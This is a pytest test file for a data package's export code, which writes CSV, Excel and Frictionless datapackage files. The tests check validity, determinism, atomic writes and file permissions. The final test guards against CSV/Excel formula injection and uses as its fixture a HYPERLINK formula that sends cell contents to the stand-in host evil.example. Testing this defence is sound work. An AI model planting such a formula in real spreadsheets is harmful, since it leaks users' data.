"""zhili export: figures.csv, exclusions.csv and a valid Frictionless datapackage.json, deterministic and atomic."""

import json
import os

import pandas as pd
import pytest
from frictionless import validate

import zhili_data
from zhili_data.core.schema import COLUMN_NAMES, EXCLUSION_REASONS
from zhili_data.report import export as export_module


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    out = tmp_path_factory.mktemp("processed")
    export_module.export(out)
    return out


def test_files_written(exported):
    assert sorted(p.name for p in exported.iterdir()) == [
        "datapackage.json",
        "exclusions.csv",
        "figures.csv",
        "figures.xlsx",
        "readings.csv",
    ]


def test_datapackage_is_valid_frictionless(exported):
    report = validate(str(exported / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_datapackage_describes_every_column(exported):
    descriptor = json.loads((exported / "datapackage.json").read_text(encoding="utf-8"))
    figures = next(r for r in descriptor["resources"] if r["name"] == "figures")
    fields = figures["schema"]["fields"]
    assert [f["name"] for f in fields] == list(COLUMN_NAMES)
    assert all(f["description"] and f["title"] for f in fields)
    exclusions = next(r for r in descriptor["resources"] if r["name"] == "exclusions")
    reason = next(f for f in exclusions["schema"]["fields"] if f["name"] == "reason")
    assert reason["constraints"]["enum"] == list(EXCLUSION_REASONS)
    assert descriptor["sources"][0]["sha256"] == zhili_data.get_report().source_sha256


def test_csv_round_trips_the_loaded_table(exported):
    table = pd.read_csv(exported / "figures.csv", dtype={"figure_id": str})
    loaded = zhili_data.load_figures()
    assert list(table.columns) == list(COLUMN_NAMES)
    assert table["figure_id"].tolist() == loaded["figure_id"].tolist()
    assert table["value_std"].tolist() == loaded["value_std"].tolist()
    assert table["quote_en"].tolist() == loaded["quote_en"].tolist() and table["quote_en"].str.len().gt(0).all()
    assert "39844000000" in (exported / "figures.csv").read_text(encoding="utf-8")  # no 3.9844e+10


def test_export_is_deterministic(exported, tmp_path):
    export_module.export(tmp_path)
    for name in ("figures.csv", "exclusions.csv", "readings.csv", "datapackage.json", "figures.xlsx"):
        assert (tmp_path / name).read_bytes() == (exported / name).read_bytes(), name


def test_failed_export_keeps_the_previous_files(tmp_path, monkeypatch):
    export_module.export(tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def broken(reports):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(export_module, "exclusions_csv", broken)
    with pytest.raises(RuntimeError):
        export_module.export(tmp_path)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_readings_are_exported_as_curated(exported):
    table = pd.read_csv(exported / "readings.csv", dtype=str, keep_default_na=False)
    curated = pd.read_csv(zhili_data.get_report().folder / "readings.csv", dtype=str, keep_default_na=False)
    assert list(table.columns) == ["report_id", *curated.columns]
    assert table.drop(columns="report_id").equals(curated)
    descriptor = json.loads((exported / "datapackage.json").read_text(encoding="utf-8"))
    readings = next(r for r in descriptor["resources"] if r["name"] == "readings")
    assert [f["name"] for f in readings["schema"]["fields"]] == list(table.columns)
    assert readings["schema"]["primaryKey"] == ["report_id", "reading_id"]


def test_workbook_reads_back_every_figure(exported):
    sheets = pd.read_excel(exported / "figures.xlsx", sheet_name=None)
    assert list(sheets) == ["figures", "exclusions", "readings", "growth", "shares", "target_gap", "columns"]
    figures, loaded = sheets["figures"], zhili_data.load_figures()
    assert list(figures.columns) == list(COLUMN_NAMES)
    assert figures["figure_id"].tolist() == loaded["figure_id"].tolist()
    assert figures["value_std"].tolist() == loaded["value_std"].tolist()
    assert figures["quote"].tolist() == loaded["quote"].astype(str).tolist()
    assert len(sheets["exclusions"]) == len(pd.read_csv(exported / "exclusions.csv"))
    assert len(sheets["readings"]) == len(pd.read_csv(exported / "readings.csv"))
    shares = sheets["shares"]
    prior = shares[shares["kind"] == "prior_part_of"].iloc[0]
    assert round(prior["share_pct"], 1) == 32.0 and bool(prior["derived"])


def test_workbook_describes_every_column_of_every_sheet(exported):
    sheets = pd.read_excel(exported / "figures.xlsx", sheet_name=None)
    described = sheets["columns"]
    for name, table in sheets.items():
        if name == "columns":
            continue
        rows = described[described["sheet"] == name]
        assert rows["column"].tolist() == list(table.columns), name
    assert described["description"].notna().all() and described["description"].str.len().gt(10).all()
    assert not described["description"].str.startswith("See the docstring").any()


@pytest.mark.slow
@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_files_honour_the_umask(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        written = export_module.export(tmp_path)
    finally:
        os.umask(previous)
    assert {path.name: oct(path.stat().st_mode & 0o777) for path in written} == {
        path.name: oct(mode) for path in written
    }


def test_text_that_looks_like_a_formula_is_data_in_both_files(tmp_path, monkeypatch):
    # What `zhili validate` refuses in free text could still come from a quote of the source: the files never run it.
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'
    loaded = zhili_data.load_figures()

    def figures(report):
        frame = loaded.copy()
        frame.loc[0, "indicator"], frame.loc[1, "note"] = formula, "@SUM(1+1)"
        return frame

    monkeypatch.setattr(export_module, "load_figures", figures)
    export_module.export(tmp_path)
    book = load_workbook(tmp_path / "figures.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert book["figures"]["D2"].value == formula and book["figures"]["D2"].data_type == "s"
    written = pd.read_csv(tmp_path / "figures.csv", dtype=str, keep_default_na=False)
    assert written.loc[0, "indicator"] == "'" + formula and written.loc[1, "note"] == "'@SUM(1+1)"
    assert not any(str(v).startswith(("=", "+", "@")) for v in written.to_numpy().ravel())
